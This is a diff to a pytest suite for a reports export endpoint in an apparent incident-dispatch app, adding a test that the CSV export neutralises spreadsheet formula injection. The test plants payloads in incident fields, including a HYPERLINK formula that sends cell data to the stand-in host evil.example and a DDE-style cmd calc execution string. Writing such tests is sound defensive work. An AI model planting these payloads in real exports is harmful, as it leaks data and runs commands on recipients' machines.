@@ -19,13 +19,13 @@ EXPORT = reverse("reports:export")
 MARCH = {"start": "2026-03-01", "end": "2026-03-31"}
 
 
-
 @pytest.fixture(autouse=True)
 def _a_day_in_june():
     """The hand-built dataset lies in March 2026 and meets "now" (a day is settled two days
     after it ends): the clock starts on a fixed day after it, and runs."""
     with time_machine.travel(datetime(2026, 6, 1, 12, 0, tzinfo=ZoneInfo("America/Denver")), tick=True):
         yield
+
 
 @pytest.fixture
 def dataset(db):
@@ -190,3 +190,22 @@ def test_a_program_that_withholds_identifier_exports_gets_neither_the_box_nor_th
     response = client.post(EXPORT, {**MARCH, "kind": "outcomes", "identifiers": "on"})
     assert response.status_code == 403
     assert not ExportAudit.objects.exists()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_an_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(client, personas, dataset, start):
+    from dispatch.models import Incident
+
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
+    incident = Incident.objects.filter(caller_name="Jane Caller").get()
+    Incident.objects.filter(pk=incident.pk).update(
+        caller_name=formula, address=f"{start}1+2", call_type_code=f"{start}cmd|' /C calc'!A0"
+    )
+    response = signed_in(client, personas["supervisor"]).post(
+        EXPORT, {**MARCH, "kind": "incidents", "identifiers": "on"}
+    )
+    (row,) = [r for r in csv.DictReader(io.StringIO(streamed(response))) if r["id"] == str(incident.pk)]
+    assert row["caller_name"] == "'" + formula
+    assert row["address"] == f"'{start}1+2"
+    assert row["call_type"] == f"'{start}cmd|' /C calc'!A0"
+    assert row["caller_phone"] == "303-555-0199"  # nothing else changes
